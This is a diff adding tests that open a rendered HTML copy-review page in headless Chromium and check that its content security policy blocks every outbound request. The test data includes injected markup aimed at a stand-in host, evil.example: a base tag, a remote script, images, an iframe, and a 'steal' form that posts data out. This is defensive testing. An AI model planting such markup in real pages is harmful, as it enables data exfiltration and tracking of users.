@@ -1,12 +1,14 @@
 // The HTML review in a real browser (Debian's chromium, headless, driven by playwright-core): each bubble's rendered
-// text is the message JSMS sends, nothing is wider than a 360-pixel phone screen, and a screenshot is written.
+// text is the message JSMS sends, nothing is wider than a 360-pixel phone screen, and a screenshot is written; a
+// hostile review makes no request, not even with raw markup slipped into the page (the content security policy).
 import { expect } from "chai";
 import * as fs from "fs";
 import * as os from "os";
 import * as path from "path";
-import { chromium, type Browser } from "playwright-core";
+import { chromium, type Browser, type Request } from "playwright-core";
 import { renderHtml } from "../../copyreview/htmlRenderer";
 import { planCopyReview } from "../../copyreview/reviewPlan";
+import { hostileReview } from "./hostilePreview";
 import { previewOf, templateStep } from "./previewSteps";
 
 /** Debian's package; scripts/install-chromium.sh installs it (scripts/test.sh runs it in CI and as root). */
@@ -149,5 +151,95 @@ describe("copy review: the HTML page in headless chromium at 360 px", function (
         const png = fs.readFileSync(shot);
         expect(png.subarray(1, 4).toString("latin1")).to.equal("PNG");
         expect(png.readUInt32BE(16), "screenshot width").to.equal(360);
+    });
+
+    /** Raw markup that would load, submit or rebase, as if a text had slipped past the escaping. */
+    const SLIPPED = [
+        '<base href="https://evil.example/">',
+        '<img src="https://evil.example/i.png"><img src="relative.png">',
+        '<link rel="stylesheet" href="https://evil.example/s.css">',
+        '<div style="background:url(https://evil.example/bg.png)">bg</div>',
+        '<form id="steal" action="https://evil.example/steal" method="post"><input name="q" value="v"></form>',
+        '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>',
+        '<script src="https://evil.example/s.js"></script>',
+    ].join("");
+
+    /**
+     * Opens `html` from a file. `attempts` are the requests the page tried (chromium reports one the policy refused
+     * as tried, then failed with "csp"); `sent` those that got past the policy to the network, which are refused.
+     */
+    async function open(html: string, name: string) {
+        const file = path.join(folder, name);
+        fs.writeFileSync(file, html);
+        const page = await browser.newPage({ viewport: { width: 360, height: 740 } });
+        const attempts: Request[] = [];
+        const sent: string[] = [];
+        page.on("request", (r) => {
+            if (!r.url().startsWith("file:")) attempts.push(r);
+        });
+        await page.route("**/*", (route) => {
+            if (route.request().url().startsWith("file:")) return route.continue();
+            sent.push(route.request().url());
+            return route.abort();
+        });
+        await page.goto(`file://${file}`);
+        return { page, attempts, sent, url: `file://${file}` };
+    }
+
+    /** How each tried request ended: `csp` when the policy refused it. */
+    async function endings(attempts: Request[]): Promise<string[]> {
+        const ended = await Promise.all(
+            attempts.map(async (r) => ((await r.response()) ? "answered" : (r.failure()?.errorText ?? "?"))),
+        );
+        return [...new Set(ended)];
+    }
+
+    it("a hostile review makes no request and draws its markup as text", async () => {
+        const { page, attempts, sent } = await open(renderHtml(hostileReview()), "hostile.html");
+        const elements = await page.$$eval("img, a, form, base, iframe, object, embed, script, link, input", (e) =>
+            e.map((x) => x.tagName),
+        );
+        expect(elements).to.deep.equal([]);
+        const text = (await page.evaluate("document.body.innerText")) as string;
+        expect(text).to.contain("</details>").and.to.contain("![tracker](https://evil.example/t.png)");
+        expect(text).to.contain("⟨U+202E⟩");
+        expect(
+            attempts.map((r) => r.url()),
+            "the page tries nothing",
+        ).to.deep.equal([]);
+        expect(sent).to.deep.equal([]);
+        await page.close();
+    });
+
+    it("raw markup slipped into the page still makes no request: no load, no form submission, no <base>", async () => {
+        const html = renderHtml(hostileReview()).replace("<body>", `<body>${SLIPPED}`);
+        const { page, attempts, sent, url } = await open(html, "slipped.html");
+        // base-uri: the <base> is ignored, so relative URLs stay the file's.
+        expect(await page.evaluate("document.baseURI")).to.equal(url);
+        // form-action: a submitted form is a navigation, which the policy must refuse (it does not fall back to
+        // default-src); either the refusal is reported or the request is seen, whichever comes first.
+        await page.evaluate(
+            'window.refused = []; document.addEventListener("securitypolicyviolation", (e) => window.refused.push(e.effectiveDirective))',
+        );
+        const refused = page
+            .waitForFunction(
+                // A function, not a string: the page's policy refuses eval, which a string predicate needs.
+                () => ((globalThis as { refused?: string[] }).refused ?? []).includes("form-action"),
+                undefined,
+                { timeout: 30_000 },
+            )
+            .then(() => "refused");
+        const requested = page
+            .waitForRequest((r) => !r.url().startsWith("file:"), { timeout: 30_000 })
+            .then((r) => `requested ${r.url()}`);
+        refused.catch(() => undefined);
+        requested.catch(() => undefined);
+        await page.evaluate('document.getElementById("steal").submit()');
+        const outcome = await Promise.race([refused, requested]);
+        expect(outcome).to.equal("refused");
+        expect(sent, "nothing reaches the network").to.deep.equal([]);
+        expect(attempts.length, "the slipped markup did try").to.be.greaterThan(0);
+        expect(await endings(attempts), "every try refused by the policy").to.deep.equal(["csp"]);
+        await page.close();
     });
 });
